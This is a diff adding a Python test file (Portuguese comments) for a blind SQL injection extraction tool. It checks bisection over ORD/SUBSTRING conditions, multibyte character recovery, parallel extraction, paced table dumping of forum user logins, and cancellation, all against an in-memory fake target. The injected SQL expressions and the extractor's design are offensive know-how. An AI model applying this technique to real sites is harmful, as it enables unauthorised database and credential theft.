@@ -0,0 +1,119 @@
+import re
+import threading
+
+import pytest
+
+from attacks.blind_extraction import ASCII_MAX, BlindExtractor, BlindExtractionCancelled
+from pacing import Pacer
+
+TABLE = "(SELECT Login FROM Forum.Usuario ORDER BY IdUsuario LIMIT {row},1)"
+
+
+class FakeResponse:
+    def __init__(self, verdict):
+        self.verdict = verdict
+
+
+class FakeSession:
+    """Responde às condições injetadas avaliando-as sobre valores em memória."""
+
+    def __init__(self, oracle):
+        self.oracle = oracle
+
+    def post(self, url, data=None, **kwargs):
+        return FakeResponse(self.oracle.evaluate_condition(data[self.oracle.field]))
+
+    get = post
+
+
+class FakeOracle(BlindExtractor):
+    """BlindExtractor cujo alvo é um dicionário {expressão SQL: valor}."""
+
+    def __init__(self, values, pacer=None, workers=4, cancel_after=None):
+        super().__init__(None, "http://alvo/controller/usuario.php", "Login", {"Senha": "x"},
+                         pacer=pacer, workers=workers, add_log=lambda *args: None)
+        self.template = "{condition}"
+        self.values = values
+        self.cancel_after = cancel_after
+        self._fake_session = FakeSession(self)
+        self._count_lock = threading.Lock()
+
+    def _session(self):
+        return self._fake_session
+
+    def _classify(self, response):
+        return response.verdict
+
+    def evaluate_condition(self, condition):
+        with self._count_lock:
+            if self.cancel_after is not None and self.requests + 1 >= self.cancel_after:
+                self.pacer.cancel()
+        expression, threshold = re.fullmatch(r"\((.*)\)>(\d+)", condition).groups()
+        return self.evaluate(expression) > int(threshold)
+
+    def evaluate(self, expression):
+        match = re.fullmatch(r"ORD\(SUBSTRING\((.*),(\d+),1\)\)", expression)
+        if match:
+            # ORD() do MySQL: bytes UTF-8 do caractere como inteiro
+            char = self.values[match.group(1)][int(match.group(2)) - 1]
+            return int.from_bytes(char.encode("utf-8"), "big")
+        match = re.fullmatch(r"CHAR_LENGTH\((.*)\)", expression)
+        if match:
+            return len(self.values[match.group(1)])
+        return self.values[expression]
+
+
+def unpaced():
+    return Pacer(mode="fixed", delay_range=(0.0, 0.0), max_rps=0)
+
+
+@pytest.mark.parametrize("value", [0, 1, 63, 64, 126, 127])
+def test_bisect_finds_every_value_in_range(value):
+    oracle = FakeOracle({"X": value})
+    assert oracle.bisect("X", 0, ASCII_MAX) == value
+    # Busca binária: no máximo ceil(log2(128)) perguntas
+    assert oracle.requests <= 7
+
+
+def test_bisect_respects_lower_bound():
+    oracle = FakeOracle({"X": 500})
+    assert oracle.bisect("X", ASCII_MAX, 1000) == 500
+
+
+@pytest.mark.parametrize("char", ["a", "Z", "0", " ", "~", "é", "ç", "€"])
+def test_extract_char_ascii_and_multibyte(char):
+    oracle = FakeOracle({"V": f"x{char}"})
+    assert oracle.extract_char("V", 2) == char
+
+
+def test_extract_value_in_parallel():
+    value = "admin:Senha#123 ção"
+    oracle = FakeOracle({"V": value}, workers=4)
+    assert oracle.extract_value("V") == value
+
+
+def test_dump_table():
+    values = {"SELECT COUNT(*) FROM Forum.Usuario": 2,
+              TABLE.format(row=0): "admin", TABLE.format(row=1): "user"}
+    oracle = FakeOracle(values, pacer=unpaced(), workers=2)
+    rows = oracle.dump_table(columns=["Login"], max_rows=10)
+    assert rows == [{"Login": "admin"}, {"Login": "user"}]
+
+
+def test_send_refuses_to_fire_after_cancel():
+    pacer = unpaced()
+    oracle = FakeOracle({"X": 1}, pacer=pacer)
+    pacer.cancel()
+    with pytest.raises(BlindExtractionCancelled):
+        oracle.ask("(X)>0")
+    assert oracle.requests == 0
+
+
+def test_dump_table_keeps_complete_rows_when_cancelled():
+    values = {"SELECT COUNT(*) FROM Forum.Usuario": 3,
+              TABLE.format(row=0): "a", TABLE.format(row=1): "bb", TABLE.format(row=2): "cc"}
+    # Contagem (~10 perguntas) + linha 0 (~17) e o cancelamento no meio da linha 1
+    oracle = FakeOracle(values, pacer=unpaced(), workers=1, cancel_after=35)
+    rows = oracle.dump_table(columns=["Login"], max_rows=10)
+    assert rows == [{"Login": "a"}]
+    assert oracle.requests < 40